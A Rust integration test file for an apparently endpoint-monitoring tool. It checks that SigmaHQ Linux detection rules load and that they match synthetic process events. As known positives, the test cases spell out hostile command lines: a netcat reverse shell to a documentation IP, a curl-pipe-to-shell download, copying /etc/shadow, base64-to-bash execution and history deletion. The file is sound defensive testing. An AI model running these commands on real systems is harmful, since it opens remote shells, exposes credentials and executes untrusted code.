//! The community Sigma rules for Linux (SigmaHQ, in the shared test data beside the
//! repository): every file loads as active, inactive or refused with a reason, and the
//! process-creation rules match realistic procmond events.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::collections::BTreeMap;
use std::path::PathBuf;

use daemoneye_io::detect::{RuleSet, RuleSources, rule_files};
use daemoneye_proto::pb::control::RuleState;
use daemoneye_proto::pb::events::{ProcessEvent, ProcessEventKind, ProcessInfo};

/// `shared/sigma/linux` in the nearest ancestor of the crate that has it (the main checkout,
/// a worktree and CI's clone all keep `shared/` beside the repository), or
/// `DAEMONEYE_SIGMA_DIR`.
fn community_dir() -> Option<PathBuf> {
    if let Some(d) = std::env::var_os("DAEMONEYE_SIGMA_DIR") {
        return Some(d.into());
    }
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .ancestors()
        .map(|a| a.join("shared/sigma/linux"))
        .find(|d| d.is_dir())
}

fn load() -> Option<(PathBuf, RuleSet)> {
    let Some(dir) = community_dir() else {
        println!("note: shared/sigma/linux not found beside the repository; skipped");
        return None;
    };
    let set = RuleSet::load(&RuleSources {
        builtin: false,
        directories: vec![dir.clone()],
    });
    Some((dir, set))
}

#[test]
fn every_community_rule_file_ends_active_inactive_or_refused() {
    let Some((dir, set)) = load() else { return };
    let files = rule_files(&dir).unwrap();
    assert_eq!(files.len(), 210, "the shared rule set has 210 files");
    let statuses = set.statuses();
    let mut counts: BTreeMap<String, usize> = BTreeMap::new();
    for f in &files {
        let label = f.display().to_string();
        let of_file: Vec<_> = statuses.iter().filter(|s| s.file == label).collect();
        assert_eq!(of_file.len(), 1, "{label}: one rule per community file");
        let s = of_file[0];
        match s.state() {
            RuleState::Active => assert!(s.reason.is_empty()),
            RuleState::Inactive | RuleState::Refused => {
                assert!(!s.reason.is_empty() && !s.reason.contains('\n'), "{label}")
            }
            RuleState::Unspecified => panic!("{label}: no outcome"),
        }
        let key = format!("{:?} {}", s.state(), s.logsource);
        *counts.entry(key).or_default() += 1;
        if s.state() == RuleState::Refused {
            println!("refused: {label}: {}", s.reason);
        }
    }
    for (k, n) in &counts {
        println!("{n:4} {k}");
    }
    let count = |st: RuleState| statuses.iter().filter(|s| s.state() == st).count();
    println!(
        "active {} inactive {} refused {}",
        count(RuleState::Active),
        count(RuleState::Inactive),
        count(RuleState::Refused)
    );
    // The README's numbers (the shared set is pinned to one SigmaHQ commit).
    assert_eq!(count(RuleState::Active), 122, "the process_creation rules");
    assert_eq!(
        count(RuleState::Inactive),
        88,
        "auditd, builtin, file, network"
    );
    assert_eq!(count(RuleState::Refused), 0);
}

fn creation(exe: &str, argv: &[&str]) -> ProcessEvent {
    ProcessEvent {
        kind: ProcessEventKind::New as i32,
        process: Some(ProcessInfo {
            pid: 31337,
            ppid: 31000,
            name: exe.rsplit('/').next().unwrap_or_default().into(),
            exe: exe.into(),
            cmdline: argv.iter().map(|s| s.to_string()).collect(),
            user: "alice".into(),
            uid: 1000,
            cwd: "/home/alice".into(),
            parent_exe: "/usr/bin/bash".into(),
            parent_cmdline: vec!["-bash".into()],
            ..Default::default()
        }),
        source: "netlink".into(),
        ..Default::default()
    }
}

#[test]
fn community_process_creation_rules_match_known_positives() {
    let Some((_dir, set)) = load() else { return };
    let cases: &[(&str, &[&str], &str)] = &[
        (
            "/usr/bin/nc",
            &["nc", "-e", "/bin/sh", "203.0.113.7", "4444"],
            "proc_creation_lnx_netcat_reverse_shell.yml",
        ),
        (
            "/usr/bin/python3.12",
            &["python3", "-c", "import pty; pty.spawn('/bin/bash')"],
            "proc_creation_lnx_python_pty_spawn.yml",
        ),
        (
            "/usr/bin/rm",
            &["rm", "/home/alice/.bash_history"],
            "proc_creation_lnx_susp_history_delete.yml",
        ),
        (
            "/usr/bin/cp",
            &["cp", "/etc/shadow", "/tmp/s"],
            "proc_creation_lnx_cp_passwd_or_shadow_tmp.yml",
        ),
        (
            "/usr/bin/crontab",
            &["crontab", "-r"],
            "proc_creation_lnx_crontab_removal.yml",
        ),
        (
            "/tmp/.x/payload",
            &["payload"],
            "proc_creation_lnx_susp_execution_tmp_folder.yml",
        ),
        // `CommandLine|endswith: '| sh'`: argv joined by plain spaces, as the rules expect.
        (
            "/usr/bin/dash",
            &["sh", "-c", "curl -s http://203.0.113.7/i | sh"],
            "proc_creation_lnx_susp_pipe_shell.yml",
        ),
        (
            "/usr/bin/bash",
            &["bash", "-c", "echo aWQK | base64 -d | bash"],
            "proc_creation_lnx_base64_execution.yml",
        ),
    ];
    for (exe, argv, rule) in cases {
        let hits = set.evaluate(&creation(exe, argv));
        assert!(
            hits.iter().any(|r| r.file.ends_with(rule)),
            "{argv:?} did not match {rule}; matched {:?}",
            hits.iter().map(|r| &r.file).collect::<Vec<_>>()
        );
    }
    // Ordinary work matches nothing.
    for (exe, argv) in [
        ("/usr/bin/git", &["git", "status", "--porcelain"][..]),
        ("/usr/bin/cargo", &["cargo", "build", "--release"][..]),
        ("/usr/bin/vim", &["vim", "notes.txt"][..]),
    ] {
        let hits = set.evaluate(&creation(exe, argv));
        assert!(hits.is_empty(), "{argv:?} matched {hits:?}");
    }
    let matched: u64 = set.statuses().iter().map(|s| s.matches).sum();
    assert!(matched >= cases.len() as u64);
}

#[test]
fn a_broken_file_beside_the_community_rules_is_refused_alone() {
    let Some(dir) = community_dir() else {
        println!("note: shared/sigma/linux not found beside the repository; skipped");
        return;
    };
    let extra = tempfile::tempdir().unwrap();
    std::fs::write(extra.path().join("broken.yml"), "title: x\ndetection: [\n").unwrap();
    let set = RuleSet::load(&RuleSources {
        builtin: true,
        directories: vec![dir, extra.path().into()],
    });
    let statuses = set.statuses();
    let refused: Vec<_> = statuses
        .iter()
        .filter(|s| s.state() == RuleState::Refused)
        .collect();
    assert_eq!(refused.len(), 1, "{refused:?}");
    assert!(refused[0].file.ends_with("broken.yml"));
    assert!(set.active() >= 122);
}
